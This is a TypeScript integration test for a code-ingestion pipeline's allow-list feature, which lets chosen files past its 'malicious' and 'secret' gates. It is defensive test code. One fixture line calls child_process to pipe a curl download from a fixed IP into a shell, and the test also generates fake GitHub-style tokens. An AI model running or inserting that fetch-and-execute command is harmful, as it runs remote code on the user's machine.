// An allow list is part of what is in force: an entry is tried on all history first, counts from a batch on, stands in the
// ruleset of every verdict made under it, and lets files in with the finding and its id; taken back, all is as before.
// Mutants: a gate leaves the entries of a promotion out; `allow` states its entry alone, in place of what is in force;
// `disallow` takes nothing away; a dry run promotes; the reason is kept whatever it says.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { PromoteReport } from '../../cli/rules.ts'
import { sample } from '../../processors/secret/examples.ts'
import type { Decision, Sample } from '../../schemas/types.ts'
import { filesDecided, operationsRecorded, samplesAccepted, stepNames } from '../../topics/index.ts'
import { runHere } from '../support/commands-here.ts'
import { livePipeline } from '../support/live.ts'
import { eventsOf, type Running, recordsOf } from '../support/pipeline.ts'
import { plainSource } from '../support/plain-source.ts'

const pipelineOf = livePipeline()
const steps = stepNames.filter((step) => step !== 'trainer')
const folder = mkdtempSync(join(tmpdir(), 'codelupe-allow-'))
const running: Running[] = []
const state: { entry: string; own: string; last: number } = { entry: '', own: '', last: 0 }

const token = (at: number): string => `ghp_${sample(`allowed ${at}`, 'alnum', 36)}`
const shell = "require('child_process').exec('curl -s http://203.0.113.9/a.sh | sh')"

const run = (...args: readonly string[]) => runHere(pipelineOf().config, args)
async function report(...args: readonly string[]): Promise<PromoteReport> {
  const { out, err } = await run('rules', ...args, '--json')
  expect(out, err).not.toBe('')
  return JSON.parse(out)
}

/** Reads the folder once more, under what is in force then, and gives its decisions by path. */
async function decide(): Promise<ReadonlyMap<string, Decision>> {
  const { out } = await run('ingest', join(folder, 'desk'), '--again', '--json')
  const { submission } = JSON.parse(out)
  await pipelineOf().drained(steps)
  const all = (await eventsOf<Decision>(pipelineOf().connection, filesDecided)).map(({ event }) => event)
  return new Map(
    all.filter(({ file }) => file.submission === submission).map((decision) => [decision.file.path, decision]),
  )
}

const rulesetIn = (decisions: ReadonlyMap<string, Decision>, gate: string): string =>
  decisions.get('src/plain.js')?.verdicts.find(({ processor }) => processor === gate)?.ruleset ?? ''

const releasedOf = async (decision: Decision | undefined): Promise<string> => {
  const samples = await eventsOf<Sample>(pipelineOf().connection, samplesAccepted)
  return samples.find(({ event }) => event.sampleId === decision?.sampleId)?.event.file.content?.toString() ?? ''
}

beforeAll(async () => {
  mkdirSync(join(folder, 'desk', 'fixtures'), { recursive: true })
  mkdirSync(join(folder, 'desk', 'src'))
  const put = (path: string, text: string): void => writeFileSync(join(folder, 'desk', path), text)
  put('LICENSE', readFileSync(join(import.meta.dirname, '..', '..', 'LICENSE'), 'utf8'))
  put('src/plain.js', plainSource(1))
  for (const [at, path] of ['fixtures/token.js', 'src/token.js'].entries())
    put(path, `${plainSource(10 + at)}\nexport const client_token = '${token(at)}'\n`)
  for (const [at, path] of ['fixtures/shell.js', 'src/shell.js'].entries())
    put(path, `${plainSource(20 + at)}\n${shell}\n`)
  running.push(...steps.map((step) => pipelineOf().spawn(['run', step])))
})
afterAll(async () => {
  for (const { child } of running) child.kill('SIGTERM')
  await Promise.all(running.map(({ ended }) => ended))
  rmSync(folder, { recursive: true, force: true })
})

test('without a list the gates refuse and redact', async () => {
  const decided = await decide()
  for (const path of ['fixtures/shell.js', 'src/shell.js']) expect(decided.get(path)).toMatchObject({ by: 'malicious' })
  expect(await releasedOf(decided.get('fixtures/token.js'))).toContain('REDACTED_1')
  state.own = rulesetIn(decided, 'malicious')
})

test('a dry run says what an entry would change of all history, and changes nothing', async () => {
  const args = ['allow', 'malicious', '--path', 'fixtures/**', '--why', 'made to test the gate']
  const dry = await report(...args)
  expect([dry.operation, dry.gained, dry.changes.map(({ processor }) => processor)]).toEqual([null, 1, ['malicious']])
  const operations = (await recordsOf(pipelineOf().connection, operationsRecorded)).length
  const { err } = await run('rules', ...args)
  expect(err).toContain('a dry run: nothing has changed')
  state.entry = /entry (allow-[0-9a-f]{12})/.exec(err)?.[1] ?? ''
  // Replays of the same question are one: not even that is written again.
  expect((await recordsOf(pipelineOf().connection, operationsRecorded)).length).toBe(operations)
  expect((await run('rules', 'show')).out).not.toContain('allowed ')
})

test('in force it lets in what it is meant for, with the finding and the entry in the verdict, under a ruleset of its own', async () => {
  const done = await report(
    'allow',
    'malicious',
    '--path',
    'fixtures/**',
    '--why',
    'made to test the gate',
    '--execute',
  )
  expect(done.operation).toMatch(/^promotion-/)
  const decided = await decide()
  expect(decided.get('src/shell.js')).toMatchObject({ by: 'malicious' })
  const passed = decided.get('fixtures/shell.js')
  expect(passed).toMatchObject({ outcome: 'accepted' })
  const verdict = passed?.verdicts.find(({ processor }) => processor === 'malicious')
  expect(verdict?.findings.length).toBeGreaterThan(0)
  for (const { message } of verdict?.findings ?? []) expect(message).toContain(`Let pass by ${state.entry}.`)
  expect(rulesetIn(decided, 'malicious')).not.toBe(state.own)
  expect((await run('rules', 'show')).out).toContain(
    `allowed    ${state.entry} malicious: every rule in fixtures/**; made to test the gate`,
  )
  expect((await run('explain', 'local/-/desk:fixtures/shell.js')).out).toContain(state.entry)
  const again = await run('rules', 'allow', 'malicious', '--path', 'fixtures/**', '--why', 'once more', '--execute')
  expect(again.err).toContain(`${state.entry} is in force already`)
})

test('a second entry stands beside the first: one finding alone, of another gate', async () => {
  const { out } = await run('findings', 'ls', '--gate', 'secret', '--file', 'src/token.js', '--json')
  const [finding] = JSON.parse(out).findings
  await report('allow', 'secret', '--finding', finding.id, '--why', 'a key that is made up', '--execute')
  const decided = await decide()
  expect(decided.get('fixtures/shell.js')).toMatchObject({ outcome: 'accepted' })
  expect(await releasedOf(decided.get('src/token.js'))).toContain(token(1))
  expect(await releasedOf(decided.get('fixtures/token.js'))).not.toContain(token(0))
})

test('what is typed wrongly is refused, and nothing is promoted', async () => {
  const operations = (await recordsOf(pipelineOf().connection, operationsRecorded)).length
  const refused = async (...args: readonly string[]): Promise<string> => (await run('rules', ...args, '--execute')).err
  expect(await refused('allow', 'quality', '--path', '**', '--why', 'x')).toContain(
    'expected malicious or secret, found quality',
  )
  expect(await refused('allow', 'secret', '--why', 'x')).toContain('expected a path, a repository or a finding')
  expect(await refused('allow', 'secret', '--path', '**', '--rule', 'jtw', '--why', 'x')).toContain('found jtw')
  expect(await refused('allow', 'secret', '--path', '**', '--why', `it is ${token(7)}`)).toContain(
    'without a secret in it',
  )
  expect(await refused('disallow', 'allow-000000000000')).toContain(state.entry)
  expect((await recordsOf(pipelineOf().connection, operationsRecorded)).length).toBe(operations)
})

test('taken back, the gate refuses again, and its ruleset is the one before; the other entry stands', async () => {
  const dry = await report('disallow', state.entry)
  expect([dry.operation, dry.lost.total]).toEqual([null, 2])
  await report('disallow', state.entry, '--execute')
  const decided = await decide()
  expect(decided.get('fixtures/shell.js')).toMatchObject({ by: 'malicious' })
  expect(rulesetIn(decided, 'malicious')).toBe(state.own)
  expect(await releasedOf(decided.get('src/token.js'))).toContain(token(1))
  expect((await run('verify')).out).toContain('no break: nothing lost, nothing doubled')
})
